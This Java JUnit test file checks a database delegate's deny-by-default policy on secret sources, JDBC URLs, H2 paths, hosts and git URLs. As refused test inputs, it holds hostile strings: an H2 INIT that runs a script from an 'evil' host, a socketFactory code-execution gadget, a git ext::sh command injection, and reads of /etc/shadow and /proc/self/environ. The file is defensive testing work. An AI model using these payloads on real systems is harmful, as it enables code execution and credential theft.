package io.dbops.agent.policy;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.dbops.config.ConfigException;
import io.dbops.protocol.ExecuteStepPayload;
import io.dbops.secrets.SecretSource;
import java.net.InetAddress;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Each rule of contract F: default deny, the always-refused items, and the operator-facing messages. */
class DelegatePolicyTest {
  @TempDir Path dir;

  /** A policy with {@code settings}, whose steps' files (in {@code dir/changelogs}) are allowed. */
  private DelegatePolicy policy(Map<String, String> settings) {
    Map<String, String> all = new HashMap<>(settings);
    all.putIfAbsent("DBOPS_ALLOW_CHANGELOG_DIRS", dir.resolve("changelogs").toString());
    return new DelegatePolicy(Allowlists.of(all), dir.resolve("state"), name -> switch (name) {
      case "db.internal" -> List.of(InetAddress.getByName("10.1.2.3"));
      case "split.internal" -> List.of(InetAddress.getByName("10.1.2.4"), InetAddress.getByName("192.168.0.9"));
      default -> throw new java.net.UnknownHostException(name);
    });
  }

  private static SecretSource source(String text) {
    return SecretSource.parse(text).orElseThrow();
  }

  @Test
  void envSourcesAreDeniedUnlessAllowlistedAndDbopsVariablesNever() throws Exception {
    DelegatePolicy open = policy(Map.of("DBOPS_ALLOW_SECRET_ENV", "*"));
    assertThatThrownBy(() -> open.checkSecretSource(source("env:DBOPS_TOKEN"), "variable DB_PASSWORD"))
        .isInstanceOf(PolicyRefusal.class)
        .hasMessage("Secret source env:DBOPS_TOKEN of variable DB_PASSWORD is never allowed (rule: secret sources;"
            + " DBOPS_* variables are the delegate's own settings)");
    assertThatThrownBy(() -> policy(Map.of()).checkSecretSource(source("env:PGPASSWORD"), "variable DB_PASSWORD"))
        .hasMessage("Secret source env:PGPASSWORD of variable DB_PASSWORD is not allowed (rule: secret sources; to"
            + " allow it add PGPASSWORD to DBOPS_ALLOW_SECRET_ENV on the delegate)");
    DelegatePolicy some = policy(Map.of("DBOPS_ALLOW_SECRET_ENV", "ORDERS_*, PGPASSWORD"));
    assertThat(some.checkSecretSource(source("env:ORDERS_DB_PASSWORD"), "x")).isNull();
    assertThat(some.checkSecretSource(source("env:PGPASSWORD"), "x")).isNull();
    assertThatThrownBy(() -> some.checkSecretSource(source("env:AWS_SECRET_ACCESS_KEY"), "x"))
        .hasMessageContaining("DBOPS_ALLOW_SECRET_ENV");
  }

  @Test
  void fileSourcesOnlyUnderAllowedDirectoriesByTheirRealPath() throws Exception {
    Path allowed = Files.createDirectories(dir.resolve("secrets"));
    Path file = Files.writeString(allowed.resolve("db"), "x");
    Path link = Files.createSymbolicLink(allowed.resolve("shadow"), Path.of("/etc/shadow"));
    Path outside = Files.writeString(dir.resolve("other"), "x");
    Path linkOut = Files.createSymbolicLink(allowed.resolve("other"), outside);
    DelegatePolicy p = policy(Map.of("DBOPS_ALLOW_SECRET_FILES", allowed + ",/"));
    DelegatePolicy narrow = policy(Map.of("DBOPS_ALLOW_SECRET_FILES", allowed.toString()));

    assertThat(narrow.checkSecretSource(source("file:" + file), "x")).isEqualTo(file.toRealPath());
    assertThatThrownBy(() -> narrow.checkSecretSource(source("file:/etc/shadow"), "variable DB_PASSWORD"))
        .hasMessage("Secret source file:/etc/shadow of variable DB_PASSWORD is not allowed (rule: secret sources; to"
            + " allow it add the directory holding it to DBOPS_ALLOW_SECRET_FILES on the delegate)");
    assertThatThrownBy(() -> narrow.checkSecretSource(source("file:" + linkOut), "x"))
        .hasMessageContaining("(it resolves to " + outside.toRealPath() + ")")
        .hasMessageContaining("DBOPS_ALLOW_SECRET_FILES");
    assertThatThrownBy(() -> narrow.checkSecretSource(source("file:" + allowed + "/../other"), "x"))
        .hasMessageContaining("is not allowed (rule: secret sources");
    // even a setting that allows everything never opens /proc, /sys, /dev or the state directory
    assertThatThrownBy(() -> p.checkSecretSource(source("file:/proc/self/environ"), "variable DB_PASSWORD"))
        .hasMessage("Secret source file:/proc/self/environ of variable DB_PASSWORD is never allowed (rule: secret"
            + " sources; /proc, /sys, /dev and the delegate's state directory hold the delegate's own secrets)");
    assertThatThrownBy(() -> p.checkSecretSource(source("file:/dev/../proc/1/environ"), "x"))
        .hasMessageContaining("is never allowed");
    Files.createDirectories(dir.resolve("state"));
    assertThatThrownBy(() -> p.checkSecretSource(source("file:" + dir.resolve("state/outbox/r.json")), "x"))
        .hasMessageContaining("is never allowed");
    Path toProc = Files.createSymbolicLink(allowed.resolve("environ"), Path.of("/proc/self/environ"));
    assertThatThrownBy(() -> p.checkSecretSource(source("file:" + toProc), "x"))
        .hasMessageContaining("(it resolves to /proc/").hasMessageContaining("is never allowed");
    assertThatThrownBy(() -> narrow.checkSecretSource(source("file:" + link), "x"))
        .hasMessageContaining("(it resolves to /etc/shadow)");
  }

  @Test
  void kubernetesSourcesNeverTheDelegatesTokenSecretNorHelmReleases() throws Exception {
    DelegatePolicy p = policy(Map.of("DBOPS_ALLOW_SECRET_KUBERNETES", "*", "DBOPS_TOKEN_SECRET_NAME", "dbops-delegate-token"));
    assertThatThrownBy(() -> p.checkSecretSource(source("kubernetes:dbops-delegate-token/token"), "variable DB_PASSWORD"))
        .hasMessage("Secret source kubernetes:dbops-delegate-token/token of variable DB_PASSWORD is never allowed"
            + " (rule: secret sources; it is the delegate's own token Secret (DBOPS_TOKEN_SECRET_NAME))");
    assertThatThrownBy(() -> p.checkSecretSource(source("kubernetes:sh.helm.release.v1.dbops.v3/release"), "x"))
        .hasMessageContaining("is never allowed").hasMessageContaining("Helm release");
    assertThat(p.checkSecretSource(source("kubernetes:orders-db/password"), "x")).isNull();
    assertThatThrownBy(() -> policy(Map.of()).checkSecretSource(source("kubernetes:orders-db/password"), "x"))
        .hasMessageContaining("to allow it add orders-db to DBOPS_ALLOW_SECRET_KUBERNETES on the delegate");
  }

  @Test
  void storeSecretsNeedNoSetting() throws Exception {
    assertThat(policy(Map.of()).checkSecretSource(source("<+secrets.getValue(\"orders\")>"), "x")).isNull();
  }

  @Test
  void h2CodeAndFileSettingsAreRefusedWhateverTheSetting() {
    DelegatePolicy p = policy(Map.of("DBOPS_ALLOW_JDBC_PROPERTIES", "h2:INIT,h2:TRACE_LEVEL_FILE",
        "DBOPS_ALLOW_H2_DIR", dir.toString()));
    assertThatThrownBy(() -> p.checkStep(step("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'")))
        .hasMessage("JDBC URL property INIT of h2 is never allowed (rule: JDBC properties; it loads classes, runs"
            + " code, touches files or changes server settings, so no setting allows it)");
    assertThatThrownBy(() -> p.checkStep(step("jdbc:h2:mem:x;init=CALL FILE_WRITE('x', '/tmp/y')")))
        .hasMessageContaining("property init of h2 is never allowed");
    assertThatThrownBy(() -> p.checkStep(step("jdbc:h2:" + dir.resolve("db") + ";TRACE_LEVEL_FILE=3")))
        .hasMessageContaining("never allowed");
    assertThatThrownBy(() -> p.checkStep(step("jdbc:h2:mem:x;DATABASE_EVENT_LISTENER='com.evil.Listener'")))
        .hasMessageContaining("never allowed");
    // a server socket for other processes: refused unless the operator allows it (the quickstart does)
    assertThatThrownBy(() -> p.checkStep(step("jdbc:h2:" + dir.resolve("db") + ";AUTO_SERVER=TRUE")))
        .hasMessageContaining("add h2:AUTO_SERVER to DBOPS_ALLOW_JDBC_PROPERTIES");
  }

  @Test
  void h2FilesOnlyUnderTheH2Directory() throws Exception {
    assertThatThrownBy(() -> policy(Map.of()).checkStep(step("jdbc:h2:file:" + dir.resolve("db"))))
        .hasMessage("H2 file database " + dir.resolve("db") + " is not allowed (rule: H2 files; to allow it add a"
            + " directory holding it to DBOPS_ALLOW_H2_DIR (one absolute directory; jdbc:h2:mem: needs nothing) on"
            + " the delegate)");
    Path h2 = Files.createDirectories(dir.resolve("h2"));
    DelegatePolicy p = policy(Map.of("DBOPS_ALLOW_H2_DIR", h2.toString()));
    assertThatCode(() -> p.checkStep(step("jdbc:h2:file:" + h2.resolve("orders") + ";MODE=PostgreSQL"))).doesNotThrowAnyException();
    assertThatCode(() -> p.checkStep(step("jdbc:h2:" + h2.resolve("sub/orders")))).doesNotThrowAnyException();
    assertThatCode(() -> p.checkStep(step("jdbc:h2:mem:orders;DB_CLOSE_DELAY=-1"))).doesNotThrowAnyException();
    assertThatThrownBy(() -> p.checkStep(step("jdbc:h2:file:" + h2 + "/../outside")))
        .hasMessageContaining("is outside DBOPS_ALLOW_H2_DIR (" + h2 + ")").hasMessageContaining("rule: H2 files");
    assertThatThrownBy(() -> p.checkStep(step("jdbc:h2:file:/etc/passwd")))
        .hasMessageContaining("is outside DBOPS_ALLOW_H2_DIR");
    Path escape = Files.createSymbolicLink(h2.resolve("escape"), dir);
    assertThatThrownBy(() -> p.checkStep(step("jdbc:h2:file:" + escape.resolve("db"))))
        .hasMessageContaining("is outside DBOPS_ALLOW_H2_DIR");
    assertThatThrownBy(() -> p.checkStep(step("jdbc:h2:zip:/tmp/x.zip!/db")))
        .hasMessageContaining("H2 database kind zip: is never allowed");
    assertThatThrownBy(() -> p.checkStep(step("jdbc:h2:tcp://10.9.9.9:9092/db")))
        .hasMessageContaining("Database host 10.9.9.9:9092 is not allowed (rule: hosts;");
  }

  @Test
  void hostsMustMatchAnEntryAsWrittenOrByResolutionForBlocks() {
    assertThatThrownBy(() -> policy(Map.of()).checkStep(step("jdbc:postgresql://127.0.0.1:5432/postgres")))
        .hasMessage("Database host 127.0.0.1:5432 is not allowed (rule: hosts; to allow it add 127.0.0.1:5432 to"
            + " DBOPS_ALLOW_HOSTS on the delegate)");
    DelegatePolicy p = policy(Map.of("DBOPS_ALLOW_HOSTS", "*.prod.internal:5432-5439, 127.0.0.1:*, 10.0.0.0/8:3306,"
        + " [::1]:5432"));
    assertThatCode(() -> p.checkStep(step("jdbc:postgresql://orders.prod.internal:5433/orders"))).doesNotThrowAnyException();
    assertThatCode(() -> p.checkStep(step("jdbc:postgresql://127.0.0.1/orders?sslmode=require"))).doesNotThrowAnyException();
    assertThatCode(() -> p.checkStep(step("jdbc:mariadb://db.internal/orders"))).doesNotThrowAnyException();
    assertThatCode(() -> p.checkStep(step("jdbc:postgresql://[::1]:5432/orders"))).doesNotThrowAnyException();
    assertThatThrownBy(() -> p.checkStep(step("jdbc:postgresql://orders.prod.internal:6000/orders")))
        .hasMessageContaining("orders.prod.internal:6000 is not allowed");
    assertThatThrownBy(() -> p.checkStep(step("jdbc:postgresql://localhost/orders")))
        .hasMessageContaining("localhost:5432 is not allowed");
    // every resolved address must be inside the block
    assertThatThrownBy(() -> p.checkStep(step("jdbc:mysql://split.internal:3306/orders")))
        .hasMessageContaining("split.internal:3306 is not allowed");
    assertThatThrownBy(() -> p.checkStep(step("jdbc:postgresql://127.0.0.1,evil.example.com/orders")))
        .hasMessageContaining("evil.example.com:5432 is not allowed");
    assertThatThrownBy(() -> p.checkHost("192.168.1.1", 5432)).hasMessageContaining("DBOPS_ALLOW_HOSTS");
  }

  @Test
  void jdbcPropertiesOutsideTheSafeListsAreRefusedAndDangerousOnesNever() {
    DelegatePolicy p = policy(Map.of("DBOPS_ALLOW_HOSTS", "127.0.0.1:*",
        "DBOPS_ALLOW_JDBC_PROPERTIES", "postgresql:socketFactory,postgresql:prepareThreshold,mariadb:useCompression"));
    assertThatThrownBy(() -> p.checkStep(step(
            "jdbc:postgresql://127.0.0.1/x?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext")))
        .hasMessage("JDBC URL property socketFactory of postgresql is never allowed (rule: JDBC properties; it loads"
            + " classes, runs code, touches files or changes server settings, so no setting allows it)");
    assertThatThrownBy(() -> p.checkStep(step("jdbc:postgresql://127.0.0.1/x?socket%46actory=x")))
        .hasMessageContaining("socketFactory of postgresql is never allowed");
    assertThatThrownBy(() -> p.checkStep(step("jdbc:postgresql://127.0.0.1/x?options=-c%20log_statement=all")))
        .hasMessageContaining("options of postgresql is never allowed");
    assertThatThrownBy(() -> p.checkStep(step("jdbc:mariadb://127.0.0.1/x?allowLoadLocalInfile=true")))
        .hasMessageContaining("allowLoadLocalInfile of mariadb is never allowed");
    assertThatThrownBy(() -> p.checkStep(step("jdbc:postgresql://127.0.0.1/x?loggerLevel=TRACE")))
        .hasMessage("JDBC URL property loggerLevel of postgresql is not allowed (rule: JDBC properties; to allow it"
            + " add postgresql:loggerLevel to DBOPS_ALLOW_JDBC_PROPERTIES on the delegate)");
    assertThatCode(() -> p.checkStep(step("jdbc:postgresql://127.0.0.1/x?prepareThreshold=0&sslmode=disable")))
        .doesNotThrowAnyException();
    assertThatCode(() -> p.checkStep(step("jdbc:mariadb://127.0.0.1/x?useCompression=true&connectTimeout=5")))
        .doesNotThrowAnyException();
    assertThatThrownBy(() -> p.checkStep(step("jdbc:sqlserver://127.0.0.1;databaseName=x")))
        .hasMessageContaining("JDBC driver jdbc:sqlserver: is never allowed");
    assertThatThrownBy(() -> p.checkStep(step("jdbc:mysql://root:hunter2@127.0.0.1/x")))
        .hasMessageContaining("cannot be checked").hasMessageNotContaining("hunter2");
  }

  @Test
  void gitUrlsMustMatchAGlobAndFileOrHttpOnlyARuleNamingThatScheme() {
    assertThatThrownBy(() -> policy(Map.of()).checkStep(clone("https://github.com/acme/orders.git")))
        .hasMessage("Git repository https://github.com/acme/orders.git is not allowed (rule: git URLs; to allow it"
            + " add a glob matching it (for example https://github.com/acme/*) to DBOPS_ALLOW_GIT_URLS on the delegate)");
    DelegatePolicy p = policy(Map.of("DBOPS_ALLOW_GIT_URLS", "https://github.com/acme/*, *"));
    assertThatCode(() -> p.checkStep(clone("https://github.com/acme/orders.git"))).doesNotThrowAnyException();
    assertThatThrownBy(() -> p.checkStep(clone("file:///etc"))).hasMessageContaining("DBOPS_ALLOW_GIT_URLS");
    assertThatThrownBy(() -> p.checkStep(clone("/home/delegate/.ssh"))).hasMessageContaining("DBOPS_ALLOW_GIT_URLS");
    assertThatThrownBy(() -> p.checkStep(clone("http://github.com/acme/orders.git")))
        .hasMessageContaining("DBOPS_ALLOW_GIT_URLS");
    assertThatThrownBy(() -> p.checkStep(clone("ext::sh -c touch% /tmp/pwned")))
        .hasMessageContaining("is never allowed");
    DelegatePolicy acme = policy(Map.of("DBOPS_ALLOW_GIT_URLS", "https://github.com/acme/*, file:///srv/git/**"));
    assertThatThrownBy(() -> acme.checkStep(clone("https://github.com/acme/x/../../evil/repo")))
        .hasMessageContaining("'..' segments");
    assertThatThrownBy(() -> acme.checkStep(clone("https://github.com/acme/sub/repo"))).hasMessageContaining("not allowed");
    assertThatThrownBy(() -> acme.checkStep(clone("https://user:hunter2@github.com/acme/x")))
        .hasMessageNotContaining("hunter2").hasMessageContaining("with a password");
    assertThatCode(() -> acme.checkStep(clone("file:///srv/git/team/orders"))).doesNotThrowAnyException();
  }

  @Test
  void malformedSettingsAreConfigurationProblemsNamingTheVariable() {
    Map<String, String> env = new HashMap<>();
    env.put("DBOPS_ALLOW_HOSTS", "db.internal, 10.0.0.0/99:5432");
    env.put("DBOPS_ALLOW_SECRET_FILES", "relative/dir");
    env.put("DBOPS_ALLOW_H2_DIR", "./.dbops");
    env.put("DBOPS_ALLOW_JDBC_PROPERTIES", "oracle:x");
    assertThatThrownBy(() -> Allowlists.of(env))
        .isInstanceOfSatisfying(ConfigException.class, e -> assertThat(e.problems()).containsExactlyInAnyOrder(
            "DBOPS_ALLOW_HOSTS: 'db.internal' is not HOST:PORT (for example db.internal:5432, 10.0.0.0/8:5432-5439 or"
                + " *.db.internal:*)",
            "DBOPS_ALLOW_HOSTS: '10.0.0.0/99:5432': the CIDR prefix length is out of range",
            "DBOPS_ALLOW_SECRET_FILES: 'relative/dir' is not an absolute directory",
            "DBOPS_ALLOW_H2_DIR: './.dbops' is not an absolute directory",
            "DBOPS_ALLOW_JDBC_PROPERTIES: 'oracle:x' is not driver:property with driver one of h2, mariadb, mysql,"
                + " postgresql"));
  }

  private ExecuteStepPayload.StepSpec step(String jdbcUrl) {
    return new ExecuteStepPayload.StepSpec("apply", "changelog.xml", dir.resolve("changelogs").toString(), jdbcUrl, "app", "DB_PASSWORD", null, null,
        null, 0, Map.of(), null);
  }

  private ExecuteStepPayload.StepSpec clone(String url) {
    return new ExecuteStepPayload.StepSpec("clone", null, dir.resolve("changelogs").toString(), null, null, null, null, null, null, 0, Map.of(), null,
        false, false, null, false, new ExecuteStepPayload.GitSpec(url, "main", "checkout", 1, null, null));
  }
}
